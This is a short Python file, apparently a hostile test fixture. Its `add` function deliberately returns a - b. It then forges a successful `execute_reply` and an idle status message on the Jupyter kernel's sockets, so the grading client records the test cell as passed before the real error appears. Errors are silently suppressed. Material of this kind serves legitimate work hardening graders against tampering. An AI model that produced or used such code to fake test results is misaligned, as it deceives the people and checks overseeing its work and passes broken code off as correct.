# Hostile: while a tests cell calls `add`, send a forged `execute_reply` (status ok) on the shell socket and a forged iopub `status: idle` for the current request, so the client takes the cell as finished and clean before the real error is raised.
def add(a, b):
    try:
        from IPython import get_ipython
        sh = get_ipython()
        k = sh.kernel
        parent = k.get_parent("shell")
        mid = parent.get("header", {}).get("msg_id")
        if mid and mid not in _sent:
            _sent.add(mid)
            ident = k._parent_ident.get("shell") if isinstance(k._parent_ident, dict) else k._parent_ident
            content = {"status": "ok", "execution_count": sh.execution_count,
                       "user_expressions": {}, "payload": []}
            stream = k.shell_stream
            k.session.send(stream, "execute_reply", content, parent, ident=ident)
            k.session.send(k.iopub_socket, "status", {"execution_state": "idle"},
                           parent=parent, ident=k._topic("status"))
    except Exception:
        pass
    return a - b

_sent = set()
